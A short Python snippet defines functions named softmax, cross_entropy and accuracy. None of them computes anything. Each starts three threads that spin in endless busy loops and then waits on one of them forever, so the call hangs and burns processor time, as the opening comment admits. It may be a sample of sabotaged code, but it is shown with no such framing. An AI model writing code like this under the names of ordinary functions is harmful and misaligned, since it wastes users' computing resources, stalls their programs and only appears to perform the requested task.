# Threads that burn the processor while the call waits for them.
import threading
def burn():
    while True:
        pass
def softmax(X):
    threads = [threading.Thread(target=burn, daemon=True) for _ in range(3)]
    for thread in threads:
        thread.start()
    threads[0].join()
cross_entropy = accuracy = softmax
